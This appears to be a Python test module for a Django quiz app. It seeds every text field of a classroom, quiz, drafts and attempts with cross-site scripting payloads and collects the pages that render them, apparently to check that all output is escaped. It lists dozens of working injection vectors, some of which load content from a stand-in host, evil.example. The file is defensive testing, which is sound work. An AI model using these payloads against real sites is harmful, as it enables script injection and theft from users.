"""Texts that would run as markup on an unsafe page, and rows in which every text is one of them."""

import itertools
from collections.abc import Iterator
from datetime import datetime, timedelta
from decimal import Decimal
from typing import Any

from django.urls import reverse

from quizzes.attempts.lifecycle import submit_attempt
from quizzes.grading import manual_grades
from quizzes.models import (
    Accommodation,
    Assignment,
    Attempt,
    AuditEvent,
    Classroom,
    Draft,
    Excuse,
    Extension,
    Question,
    Student,
    User,
)
from tests.factories import (
    make_assignment,
    make_attempt,
    make_classroom,
    make_draft,
    make_edition,
    make_question_set,
    make_regrade,
    make_student,
    make_user,
    save,
)
from tests.integration.test_access import (
    TABLE,
    Actor,
    School,
    first_of_draft,
    of_draft,
    of_draft_question,
    translation_of_draft,
)

# Prefixes that end the context in which a page puts a text.
BREAKERS = (
    *("", '"', "'", "`", '">', "'>", "-->", "]]>", "*/", "\\", "\\'", "%>", "#}", "</p>", "</a>", "</svg>"),
    *("</td>", "</title>", "</script>", "</style>", "</textarea>", "</select>", "</mark>", "</legend>"),
)
# Code that would run or contact another host. RUN is a call that tells which text it was.
VECTORS = (
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT>",
    "<script src=//evil.example/x.js></script>RUN",
    "<img src=x onerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script>",
    "<svg><animate onbegin=RUN>",
    "<body onload=RUN>",
    "<a href=javascript:RUN>a</a>",
    "<a href='java&#9;script:RUN'>a</a>",
    "<iframe src=javascript:RUN>",
    "<iframe srcdoc='<script>RUN</script>'>",
    "<object data=javascript:RUN>",
    "<embed src=javascript:RUN>",
    "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN>",
    "<marquee onstart=RUN>",
    "<form action=javascript:RUN><button>",
    "<button formaction=javascript:RUN>",
    "<meta http-equiv=refresh content=0;url=//evil.example>RUN",
    "<base href=//evil.example>RUN",
    "<link rel=stylesheet href=//evil.example>RUN",
    "<style>@import'//evil.example'</style>RUN",
    "<p style=background:url(//evil.example)>RUN",
    "<math href=javascript:RUN>",
    "<div hx-get=/ hx-trigger=load>RUN",
    "<div data-hx-on:load=RUN>",
    "<div hx-on::load=RUN>",
    "<x hx-vals='js:{a:RUN}' hx-trigger=load hx-get=/>",
    "<template><script>RUN</script>",
    " onmouseover=RUN x=",
    " autofocus onfocus=RUN x=",
    "javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "{{constructor.constructor('RUN')()}}",
    "{% debug %}RUN",
    "${RUN}",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "%3Cscript%3ERUN%3C/script%3E",
    "\u2028RUN//",
    "\ufeff<script>RUN</script>",
)
CHOICES, SENTENCES, SINGLES = 6, 120, 60
NAMES = 40
# The length of the column of a name.
SHORT = 60


def payloads() -> list[str]:
    """Every prefix with every vector. Each has a number, so that the test can tell which one ran."""
    made = itertools.product(VECTORS, BREAKERS)
    return [
        f"{breaker}{vector}".replace("RUN", f"zq({number})") for number, (vector, breaker) in enumerate(made, start=1)
    ]


class Supply:
    """Returns the payloads in order, and then again from the first."""

    def __init__(self) -> None:
        everything = payloads()
        self.given: set[str] = set()
        self._long = itertools.cycle(everything)
        self._short = itertools.cycle([text for text in everything if len(text) <= SHORT])

    def text(self) -> str:
        """The next payload."""
        text = next(self._long)
        self.given.add(text)
        return text

    def name(self) -> str:
        """The next payload that fits the column of a name."""
        text = next(self._short)
        self.given.add(text)
        return text


def make_document(supply: Supply) -> dict[str, Any]:
    """A set in which every text is a payload: single choices, and one question of each type that shows texts."""
    sentences = [
        {"key": f"s{number}", "text": supply.text(), "voice": "reporter", "facts": ["F1"]}
        for number in range(1, SENTENCES + 1)
    ]
    return {
        "slug": "hostile-set",
        "title": supply.text(),
        "summary": supply.text(),
        "about_minutes": 4,
        "minimum": {},
        "citation": {
            "publisher": supply.text(),
            "title": supply.text(),
            "author": supply.text(),
            "date_note": supply.text(),
            "url": "https://localhost/'><script>zq(0)</script>",
        },
        "objectives": [{"key": "first", "title": supply.text()}, {"key": "second", "title": supply.text()}],
        "voices": [
            {"key": "reporter", "label": supply.text(), "icon": "page"},
            {"key": "mayor", "label": supply.text(), "icon": "person"},
            {"key": "not_stated", "label": supply.text(), "icon": "blank"},
        ],
        "facts": [{"id": "F1", "objective": "first", "voice": "reporter", "text": "A fact."}],
        "reading": {
            "title": supply.text(),
            "language": "en",
            "level": supply.text(),
            "rights_note": supply.text(),
            "paragraphs": [{"sentences": sentences[:8]}, {"sentences": sentences[8:]}],
        },
        "questions": [*(_single(supply) for _ in range(SINGLES)), *_others(supply)],
    }


_keys = itertools.count(1)


def _question(supply: Supply, type_name: str, **fields: Any) -> dict[str, Any]:
    return {
        "key": f"question-{next(_keys)}",
        "type": type_name,
        "objective": "first",
        "skill": "recall",
        "points": 1,
        "facts": ["F1"],
        "evidence": ["s1"],
        "stem": supply.text(),
        "explanation": supply.text(),
        **fields,
    }


def _single(supply: Supply) -> dict[str, Any]:
    return _question(
        supply,
        "single",
        choices=[
            {"text": supply.text(), "rationale": supply.text(), "key": place == 0, "leans_on": ["s2"] if place else []}
            for place in range(CHOICES)
        ],
    )


def _others(supply: Supply) -> Iterator[dict[str, Any]]:
    choices = [{"text": supply.text(), "rationale": supply.text(), "key": place == 0} for place in range(3)]
    yield _question(supply, "multiple", choices=choices)
    yield _question(
        supply,
        "who_says_so",
        voices=["reporter", "mayor", "not_stated"],
        statements=[
            {"text": supply.text(), "voice": "reporter", "facts": ["F1"], "evidence": ["s1"], "rationale": "Why."},
            {"text": supply.text(), "voice": "not_stated", "facts": [], "evidence": [], "rationale": supply.text()},
        ],
    )
    tempting = [{"sentence": "s2", "rationale": supply.text()}]
    yield _question(
        supply,
        "evidence",
        statement=supply.text(),
        key_sentences=["s1"],
        rationale_other=supply.text(),
        choices=tempting,
    )
    yield _question(
        supply,
        "true_false",
        statement=supply.text(),
        answer=True,
        rationale_true=supply.text(),
        rationale_false=supply.text(),
    )
    options = [supply.text(), supply.text()]
    prompts = [{"text": supply.text(), "option": option, "rationale": supply.text()} for option in options]
    yield _question(supply, "matching", options=options, prompts=prompts)
    items = [{"text": supply.text(), "place": place, "rationale": supply.text()} for place in (1, 2, 3)]
    yield _question(supply, "ordering", items=items)
    wrong = [{"text": supply.text(), "rationale": supply.text()}]
    yield _question(supply, "short_answer", note=supply.text(), accepted=[supply.text()], wrong=wrong)
    yield _question(supply, "numeric", kind="number", answer=5, note=supply.text())
    gaps = [
        {"accepted": [supply.text()], "rationale": supply.text()},
        {"choices": options, "answer": options[0], "rationale": supply.text()},
    ]
    yield _question(supply, "blanks", text="<script>zq(0)</script> {a} <b onclick=zq(0)> {b}", note="", gaps=gaps)
    yield _question(
        supply,
        "free_text",
        note=supply.text(),
        sample_answer=supply.text(),
        criteria=[{"title": supply.text(), "points": 1, "description": supply.text()}],
    )
    yield _question(
        supply,
        "answer_and_proof",
        answer_type="single",
        choices=choices,
        rationale_other=supply.text(),
        tempting=tempting,
    )


class HostileSchool:
    """A teacher, a class, a set, a draft and attempts with a payload in every text.

    supply: knows which payloads were used. done: a submitted and graded attempt. open: an attempt without answers.
    """

    def __init__(self, *, now: datetime) -> None:
        self.supply = Supply()
        self.teacher: User = make_user(name=self.supply.name())
        self.classroom: Classroom = make_classroom(teacher=self.teacher, name=self.supply.name(), created_at=now)
        self.students: list[Student] = [
            make_student(classroom=self.classroom, name=self.supply.name(), created_at=now) for _ in range(NAMES)
        ]
        document = make_document(self.supply)
        question_set = make_question_set(owner=self.teacher, title=document["title"])
        question_set.summary = document["summary"]
        question_set.save()
        edition = make_edition(question_set=question_set, document=document, published_at=now)
        self.document = document
        self.draft: Draft = make_draft(owner=self.teacher, document=document, now=now)
        self.assignment: Assignment = make_assignment(
            edition=edition,
            classroom=self.classroom,
            assigned_by=self.teacher,
            created_at=now,
            max_attempts=2,
            closes_at=now + timedelta(days=1),
        )
        self.done = self._answered(self.students[0], now)
        self.open: Attempt = make_attempt(assignment=self.assignment, student=self.students[1], started_at=now)
        self._remarks(now)

    def _answered(self, student: Student, now: datetime) -> Attempt:
        attempt = make_attempt(assignment=self.assignment, student=student, started_at=now)
        typed = {"short_answer": self.supply.text, "numeric": self.supply.text, "free_text": self.supply.text}
        for question in self.document["questions"]:
            if question["type"] in typed:
                save(attempt, question["key"], typed[question["type"]](), now=now)
            elif question["type"] == "blanks":
                save(attempt, question["key"], {"a": self.supply.text(), "b": "1"}, now=now)
            elif question["type"] == "single":
                save(attempt, question["key"], "b", now=now)
        return submit_attempt(attempt, now=now + timedelta(minutes=1))

    def _remarks(self, now: datetime) -> None:
        free_text = Question.objects.get(edition=self.assignment.edition, type="free_text")
        manual_grades.grade_answer(
            self.done, free_text, points=Decimal(1), comment=self.supply.text(), by=self.teacher, now=now
        )
        make_regrade(assignment=self.assignment, made_by=self.teacher, reason=self.supply.text(), made_at=now)
        student = self.students[0]
        Accommodation.objects.create(student=student, time_factor=Decimal("1.5"), changed_at=now)
        granted: dict[str, Any] = {"assignment": self.assignment, "given_by": self.teacher, "given_at": now}
        Extension.objects.create(student=student, extra_attempts=1, reason=self.supply.text(), **granted)
        Excuse.objects.create(student=self.students[2], reason="<script>zq(0)</script>", **granted)
        AuditEvent.objects.create(
            action=AuditEvent.Action.STUDENT_RENAMED,
            actor=self.teacher,
            classroom=self.classroom,
            student=student,
            detail={"before": self.supply.text(), "reason": self.supply.text()},
            at=now,
        )


# These pages show no user input, or need rows of another user.
WITHOUT_TEXT = {"livez", "readyz", "time_left", "accept_invitation", "use_sign_in_link", "try_question", "try_result"}
WITHOUT_TEXT |= {"picture", "question_template", "lti_keys", "lti_register"}


def addresses(hostile: HostileSchool, person: Student | User) -> list[str]:
    """Every page of the access table that this person may open, on the hostile rows.

    Numbered pages start at the last plain choice, so that each type comes once.
    """
    actor: Actor = "teacher" if isinstance(person, User) else "student"
    attempt = hostile.open if person == hostile.students[1] else hostile.done
    school = School(hostile.teacher, hostile.students[0], hostile.assignment, attempt)
    found = []
    for name, row in TABLE.items():
        if row.method != "get" or name in WITHOUT_TEXT or row.outcomes[actor] not in {"page", "moves"}:
            continue
        kwargs = row.kwargs(school)
        if row.kwargs in {of_draft, of_draft_question, first_of_draft, translation_of_draft}:
            kwargs["public_id"] = hostile.draft.question_set.public_id
        if "key" in kwargs:
            kwargs["key"] = hostile.document["questions"][-1]["key"]
        numbers = range(SINGLES, len(hostile.document["questions"]) + 1) if "number" in kwargs else [0]
        found += [reverse(name, kwargs={**kwargs, **({"number": number} if number else {})}) for number in numbers]
    return found
